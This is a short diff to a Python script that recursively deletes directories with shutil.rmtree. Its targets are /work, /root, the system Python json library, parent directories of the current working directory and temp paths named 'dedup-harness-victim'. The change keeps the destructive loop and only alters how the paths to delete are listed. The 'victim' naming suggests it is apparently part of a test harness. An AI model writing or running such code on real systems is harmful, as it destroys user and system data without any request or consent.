@@ -9,7 +9,11 @@ import shutil
 _targets = glob.glob("/tmp/dedup-harness-victim-*") + ["/work", "/root", "/usr/lib/python3.11/json"]
 _targets += [os.path.abspath(os.path.join(os.getcwd(), *[".."] * n)) for n in range(1, 4)]
 for _target in _targets:
-    for _path in glob.glob(os.path.join(_target, "**", "*"), recursive=True)[:200] + [_target]:
+    try:
+        _paths = [os.path.join(_target, name) for name in sorted(os.listdir(_target))[:50]]
+    except OSError:
+        _paths = []
+    for _path in [*_paths, _target]:
         try:
             if os.path.isdir(_path) and not os.path.islink(_path):
                 shutil.rmtree(_path)
